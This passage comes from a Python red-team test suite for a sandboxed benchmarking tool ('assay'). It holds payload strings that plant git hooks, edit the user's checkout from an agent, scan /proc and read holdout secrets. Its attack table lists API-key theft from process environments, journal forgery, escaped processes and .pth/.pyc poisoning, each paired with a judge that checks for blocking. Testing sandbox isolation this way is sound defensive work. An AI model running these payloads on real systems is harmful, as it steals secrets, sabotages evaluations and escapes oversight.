for _g in _dirs:
    for _hook in @HOOKS@:
        _h = os.path.join(_g, "hooks", _hook)
        try:
            with open(_h, "w") as _fh:
                _fh.write("#!/bin/sh\\necho \\"$0\\" >> @OUTSIDE@/hook-ran\\n")
            os.chmod(_h, 0o755)
            print("REDTEAM-WROTE", _h, flush=True)
        except OSError as _exc:
            print("REDTEAM-STOPPED git-hooks", _exc, flush=True)
""".replace("@HOOKS@", repr(HOOKS)))

USER_CHECKOUT_BENCH = guarded("checkout-bench", """
for _name in ("README.md", "work.py"):
    with open("@REPO@/" + _name, "a") as _fh:
        _fh.write("# written by a candidate's run\\n")
    print("REDTEAM-WROTE", _name, flush=True)
""")

AGENT = '''\
"""A coding agent that also edits the user's own checkout."""
import pathlib

print("REDTEAM-RAN agent", flush=True)
for name in ("README.md", "bench.py"):
    try:
        with open(pathlib.Path("@REPO@") / name, "a") as fh:
            fh.write("# made faster by the agent\\n")
        print("REDTEAM-WROTE", name, flush=True)
    except OSError as exc:
        print("REDTEAM-STOPPED agent", exc, flush=True)
work = pathlib.Path("work.py")
work.write_text(work.read_text().replace("SIZE = @SIZE@", "SIZE = @SIZE@ // 2"))
pathlib.Path(".assay-hypothesis.txt").write_text("halve the work\\n")
'''

AGENT_CONFIG = """
[proposer.agent]
command = "@PYTHON@ tools/agent.py"
timeout_s = 120
"""

HONEST_AGENT = '''\
import pathlib

print("REDTEAM-RAN agent", flush=True)
work = pathlib.Path("work.py")
work.write_text(work.read_text().replace("SIZE = @SIZE@", "SIZE = @SIZE@ // 2"))
pathlib.Path(".assay-hypothesis.txt").write_text("halve the work\\n")
'''

PROBE = guarded("probe", """
import glob, json, os, socket
def _read(p):
    try:
        return open(p).read()
    except OSError:
        return None
def _writable(d):
    p = os.path.join(d, "rt-probe-@TOKEN@")
    try:
        open(p, "w").close()
        os.remove(p)
        return True
    except OSError:
        return False
_seen = {}
_procs = []
for _d in os.listdir("/proc"):
    if _d.isdigit():
        _c = _read(f"/proc/{_d}/cmdline") or ""
        if "rtrun-@TOKEN@" in _c:
            _procs.append(_c.replace("\\0", " "))
_seen["assay_process"] = _procs
_seen["journal"] = [p for p in ("@REPO@/.assay/journal.sqlite", "../../journal.sqlite")
                    if os.path.exists(p)]
_seen["other_tree"] = glob.glob("@REPO@/.assay/worktrees/*-a/work.py") + glob.glob("../*-a/work.py")
_seen["user_checkout"] = [p for p in ("@REPO@/assay.toml", "@REPO@/README.md") if os.path.exists(p)]
_gd = []
for _p in ("@REPO@/.git", "@REPO@/.git/refs/heads"):
    if _writable(_p):
        _gd.append(_p)
_seen["git_writable"] = _gd
_seen["holdout"] = [t for t in (_read(p) for p in
                    ["holdout/secret.txt", "@REPO@/holdout/secret.txt",
                     *glob.glob("../*-a/holdout/secret.txt")]) if t]
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=3).sendall(b"REDTEAM @TOKEN@")
    _seen["network"] = ["127.0.0.1:@PORT@"]
except OSError:
    _seen["network"] = []
print("REDTEAM-PROBE " + json.dumps(_seen), flush=True)
""")

HOLDOUT_FILES = {
    "holdout/secret.txt": "HOLDOUT-SECRET-@TOKEN@\n",
    "holdout.py": "print('METRIC quality=1')\n",
}
HOLDOUT_CONFIG = """
[holdout_metric]
name = "quality"
direction = "maximize"
tolerance = 0.5
"""


def probe_seen(o: Outcome) -> dict[str, list[str]]:
    """What the probe candidate saw, merged over all its runs."""
    seen: dict[str, list[str]] = {}
    for ln in o.printed("REDTEAM-PROBE "):
        try:
            data = json.loads(ln[len("REDTEAM-PROBE "):])
        except ValueError:
            continue
        for k, v in data.items():
            seen.setdefault(k, []).extend(str(x) for x in v)
    return seen


def probe_judge(o: Outcome) -> Verdict:
    seen = probe_seen(o)
    if not seen:
        return inconclusive(o, "probe") or not_blocked(
            f"inconclusive: the probe printed nothing ({o.summary()})")
    seen["holdout"] = [t for t in seen.get("holdout", []) if o.repo.token in t]
    if o.notes.get("connections"):
        seen["network"] = [*seen.get("network", []), "the host's listener was reached"]
    leaks = {k: v for k, v in seen.items() if v}
    if leaks:
        return not_blocked("the candidate's run saw " + ", ".join(
            f"{k} ({v[0][:50]})" for k, v in sorted(leaks.items())))
    return blocked("its run saw no assay process, journal, other tree, checkout, writable "
                   ".git, holdout or network")


def forged_judge(o: Outcome) -> Verdict:
    """A forged journal: every command that opens it exits 2 naming the table and the row;
    or the forgery never reached it (nothing forged shows)."""
    forged_effect = any(
        any(d.get("effect") == 9.99 for d in show.json().get("decisions", []))
        for show in o.shows.values() if show.code == 0)
    if o.status.code == 2:
        msg = " ".join(o.status.text.split())
        if not re.search(r"\b(decisions|runs|events|experiments|meta)\b", msg) or \
                "row" not in msg:
            return not_blocked(f"status exit 2, but it names no table and row: {msg[:140]}")
        others = {"log": o.log.code, "export": o.export.code}
        if any(code != 2 for code in others.values()):
            return not_blocked(f"status refused the journal, but {others} opened it")
        return blocked(f"assay status exit 2: {msg[:140]}")
    if forged_effect or "REDTEAM-FORGED" in o.log.text + o.status.text:
        return not_blocked(f"assay status exit {o.status.code} and `assay show` reports the "
                           "forged effect +999%")
    wrote = o.printed("REDTEAM-WROTE")
    if wrote:
        return not_blocked(f"the journal was written ({wrote[0][14:80]}), status exit "
                           f"{o.status.code}")
    return inconclusive(o, "journal-in-run") or blocked(
        "the journal was out of the run's reach; status, log and show agree")


def forge_outside(repo: Repo, attack: Attack) -> Outcome:
    """The run, then a writer without the key forging rows in the journal it left."""
    run = plain_run(repo, attack)
    namespace: dict[str, Any] = {}
    exec(compile(FORGE, "forger", "exec"), namespace)
    namespace["forge"](str(repo.journal))
    print_ran = f"REDTEAM-RAN journal-outside\nREDTEAM-WROTE {repo.journal}\n"
    (repo.outside / "forger.out").write_text(print_ran)
    return observe(repo, run)


def kill_nine(repo: Repo, attack: Attack) -> Outcome:
    """Kill assay with SIGKILL while a bench with detached children runs."""
    proc = start_run(repo, attack)
    try:
        started = wait_until(lambda: len(repo.traces()) >= 3, 240, 0.1)
    finally:
        proc.kill()
    out, err = proc.communicate(timeout=60)
    run = Cli(proc.returncode, out, err)
    notes = {"escapees_seen": started}
    return Outcome(repo=repo, run=run, status=Cli(0, "", ""), log=Cli(1, "", ""), shows={},
                   export=Cli(0, "", ""), notes=notes)


def hog_watch(repo: Repo, attack: Attack) -> Outcome:
    """The run, sampling every 50 ms whether the candidate's hog runs beside the incumbent."""
    proc = start_run(repo, attack)
    overlap = 0
    while proc.poll() is None:
        hogs = repo.traces()
        if hogs:
            incumbents = [d for d in Path("/proc").iterdir() if d.name.isdigit()
                          and comm(int(d.name)) == f"rta-{repo.token}"]
            overlap += bool(incumbents)
        time.sleep(0.05)
    out, err = proc.communicate()
    return observe(repo, Cli(proc.returncode, out, err), {"overlap": overlap})


def kill_nine_judge(o: Outcome) -> Verdict:
    if not o.notes.get("escapees_seen"):
        return not_blocked(f"inconclusive: the bench's children never appeared "
                           f"({o.run.text.strip()[-160:]})")
    return processes_judge("kill-nine", grace=20.0)(o)


def write_outside_work(repo: Repo) -> None:
    (repo.outside / "fast_work.py").write_text(repo.fill(WORK).replace(
        f"SIZE = {repo.setting.size}", "SIZE = 1000"))


def install_benchlib(repo: Repo) -> None:
    (SITE / f"rt_benchlib_{repo.token}.py").write_text(BENCHLIB)


def pth_left(repo: Repo) -> list[str]:
    return [p.name for p in SITE.glob(f"rt_*{repo.token}*.pth")]


def pyc_left(repo: Repo) -> list[str]:
    return [p.name for p in SITE.glob(f"__pycache__/rt_benchlib_{repo.token}*")
            if b"REDTEAM_PYC" in p.read_bytes()]


def hooks_left(repo: Repo) -> list[str]:
    hooks = repo.root / ".git" / "hooks"
    out = [f".git/hooks/{h}" for h in HOOKS if (hooks / h).exists()]
    ran = repo.outside / "hook-ran"
    if ran.exists():
        out.append(f"and git ran them {len(ran.read_text().splitlines())} times as you")
    return out


def git_judge(o: Outcome) -> Verdict:
    left = hooks_left(o.repo)
    if left:
        return not_blocked("the candidate's run planted " + ", ".join(left))
    return inconclusive(o, "git-hooks") or blocked(
        "the repository's git folder was out of the run's reach: no hook planted")


def unconfined_refused(o: Outcome) -> Verdict:
    text = o.run.text
    if o.run.code == 2 and "--unconfined" in text:
        return blocked("refused with exit 2: " + " ".join(text.split())[:140])
    return not_blocked(f"`assay run` exit {o.run.code} with the agent and no sandbox "
                       f"({o.summary()})")


def unconfined_shown(o: Outcome) -> Verdict:
    if o.run.code != 0:
        return not_blocked(f"`assay run --unconfined` exit {o.run.code}: "
                           + " ".join(o.run.text.split())[-140:])
    where = {"status": "unconfined" in o.status.text.lower(),
             **{f"show {k}": "unconfined" in v.text.lower() for k, v in o.shows.items()}}
    if len(where) > 1 and all(where.values()):
        return blocked("status and every experiment say unconfined")
    return not_blocked("unconfined is not shown in " + ", ".join(k for k, v in where.items()
                                                                 if not v))


def queue_warned(o: Outcome) -> Verdict:
    lines = [ln for ln in o.run.text.splitlines() if "sandbox" in ln.lower()]
    if len(lines) == 1:
        return blocked("one warning: " + lines[0].strip()[:140])
    return not_blocked(f"{len(lines)} lines about the sandbox in the run's output "
                       "(one warning expected)")


HONEST = ("halve the work", size_patch(100_000))
OFF = {"ASSAY_SANDBOX": "off"}

ATTACKS: tuple[Attack, ...] = (
    Attack("incumbent-tree", "finding 1", "a candidate rewrites ../*-a/work.py to slow the "
           "incumbent", sabotage_judge("incumbent-tree", ("work.py",)),
           patches=(("incumbent-tree", top_patch(INCUMBENT_TREE)),)),
    Attack("incumbent-bench", "finding 2", "a candidate rewrites the incumbent's protected "
           "bench.py", sabotage_judge("incumbent-bench", ("bench.py",)),
           patches=(("incumbent-bench", top_patch(INCUMBENT_BENCH)),)),
    Attack("symlink-padded-mode", "finding 3", "a patch with `new file mode 0120000` makes "
           "work.py a link outside the repository",
           refused_judge("symlink-padded-mode", ("work.py", "symlink")),
           patches=(("symlink-padded-mode", SYMLINK),), prepare=write_outside_work),
    Attack("mode-change", "extra", "a patch changes work.py's mode to 0100755",
           refused_judge("mode-change", ("work.py", "mode")),
           patches=(("mode-change", MODE_CHANGE),)),
    Attack("secrets", "finding 4", "the bench reads OPENAI_API_KEY from /proc/<ppid>/environ "
           "and /proc/*/environ", leaked_judge("secrets", tuple(KEYS.values())),
           patches=(("secrets", top_patch(SECRETS)),), env=KEYS),
    Attack("secrets-unsandboxed", "finding 4", "the same, with the sandbox off "
           "(ASSAY_SANDBOX=off)", leaked_judge("secrets", tuple(KEYS.values())),
           patches=(("secrets", top_patch(SECRETS)),), env={**KEYS, **OFF}),
    Attack("journal-in-run", "finding 5", "the bench re-creates the seal, forges rows and the "
           "verified mark", forged_judge,
           patches=(HONEST, ("journal-in-run", top_patch(FORGE_IN_RUN)))),
    Attack("journal-without-key", "finding 5", "a writer without the key forges rows and "
           "the verified mark after a run", forged_judge, patches=(HONEST,),
           drive=forge_outside),
    Attack("user-checkout-agent", "finding 6", "the agent proposer writes README.md and "
           "bench.py in the user's checkout", checkout_judge("agent", ("README.md", "bench.py"),
                                                          "halve the work"),
           proposer="agent", config=AGENT_CONFIG, files={"tools/agent.py": AGENT}),
    Attack("user-checkout-bench", "extra", "a candidate's run appends to the user's README.md "
           "and work.py", checkout_judge("checkout-bench", ("README.md", "work.py")),
           patches=(("checkout-bench", top_patch(USER_CHECKOUT_BENCH)),)),
    Attack("escaped-processes", "finding 7", "the bench leaves `setsid sleep` and a "
           "double-forked sleep behind", processes_judge("escape"),
           patches=(("escape", top_patch(ESCAPE)),)),
    Attack("kill-nine", "finding 7", "assay is killed with SIGKILL while the bench's "
           "detached children run", kill_nine_judge,
           patches=(("kill-nine", top_patch(KILL_NINE)),), drive=kill_nine),
    Attack("cpu-hog", "extra", "the candidate leaves a CPU hog running during the "
           "incumbent's runs", processes_judge("hog"),
           patches=(("hog", top_patch(HOG)),), drive=hog_watch, pause=0.4),
    Attack("home-cache", "extra", "the candidate leaves a doubled scale in the bench's "
           "$HOME cache for the incumbent", sabotage_judge("home"),
           patches=(("home", top_patch(HOME_CACHE)),)),
    Attack("tmp-cache", "extra", "the candidate leaves a doubled scale in the bench's /tmp "
           "cache for the incumbent", sabotage_judge("tmp"),
           patches=(("tmp", top_patch(TMP_CACHE)),)),
    Attack("compile-cache", "extra", "the candidate leaves a doubled scale in the slot's "
           "compile cache ([run] compile_cache) for the incumbent",
           sabotage_judge("compile-cache"),
           patches=(("compile-cache", top_patch(COMPILE_CACHE)),),
           run='compile_cache = ["RTBENCH_CACHE"]'),
    Attack("pth-file", "extra", "the candidate drops a .pth file in site-packages that "
           "halves the incumbent's printed speed", sabotage_judge("pth", planted=pth_left),
           patches=(("pth", top_patch(PTH)),)),
    Attack("pyc-outside-tree", "extra", "the candidate poisons the byte-compiled helper the "
           "bench imports from site-packages", sabotage_judge("pyc", planted=pyc_left),
           patches=(("pyc", top_patch(PYC)),), prepare=install_benchlib),
    Attack("git-hooks", "extra", "the candidate plants hooks in the repository's .git that "
           "git runs as the user", git_judge, patches=(("git-hooks", top_patch(GIT_HOOKS)),)),
    Attack("visibility", "extra", "the candidate looks for assay's process, the journal, the "
           "other tree, the checkout, .git, the holdout and the network", probe_judge,
           patches=(("probe", top_patch(PROBE)),), args=("--name", "rtrun-@TOKEN@"),
           files=HOLDOUT_FILES, config=HOLDOUT_CONFIG,
           commands='holdout = "@PYTHON@ holdout.py"', scope='holdout = ["holdout/**"]'),
    Attack("agent-without-sandbox", "no silent fallback", "an agent run where no sandbox "
           "works, without --unconfined", unconfined_refused, proposer="agent",
           config=AGENT_CONFIG, files={"tools/agent.py": HONEST_AGENT}, env=OFF),
    Attack("agent-unconfined", "no silent fallback", "the same with --unconfined: status and "
           "every experiment say so", unconfined_shown, proposer="agent",
           config=AGENT_CONFIG, files={"tools/agent.py": HONEST_AGENT}, env=OFF,
           args=("--unconfined",)),
    Attack("queue-unsandboxed", "no silent fallback", "a queue run where no sandbox works "
           "prints one warning", queue_warned, patches=(HONEST,), env=OFF),
)

BY_NAME = {a.name: a for a in ATTACKS}
